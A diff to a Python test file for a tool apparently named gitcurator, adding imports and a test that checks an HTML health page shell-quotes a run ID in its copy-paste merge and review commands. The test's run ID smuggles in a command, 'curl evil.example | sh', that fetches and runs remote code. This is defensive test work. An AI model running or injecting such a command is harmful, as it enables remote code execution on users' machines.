@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import dataclasses
 import json
 import re
 from html.parser import HTMLParser
 
-from support.health_pages import html_of, many_rows, page_of
+from support.health_pages import html_of, many_rows, page_of, pass_entry, run_doc
 from support.skill_rows import skill_row
 
+from gitcurator.audit.trail import PENDING
+from gitcurator.health.model import PassRecord
 from gitcurator.health.page import script_json
 
 
@@ -98,3 +101,13 @@ def test_with_no_use_in_the_weeks_the_heat_map_claims_none() -> None:
     html = html_of(page_of(many_rows(5), deltas=[]))
     assert "no uses recorded in the last 12 weeks" in html
     assert "every skill used" not in html
+
+
+def test_the_commands_to_copy_quote_a_hostile_run_id() -> None:
+    run = "20261129-090000; curl evil.example | sh"
+    entry = pass_entry("20261129-090000", status=PENDING, branch="curator/x")
+    entry = dataclasses.replace(entry, run_id=run)
+    page = page_of([skill_row()], passes=[PassRecord(entry, run_doc("20261129-090000", {}, {}))])
+    html = html_of(page)
+    assert "<code>gitcurator merge &#39;20261129-090000; curl evil.example | sh&#39;</code>" in html
+    assert "gitcurator review &#39;20261129-090000; curl" in html
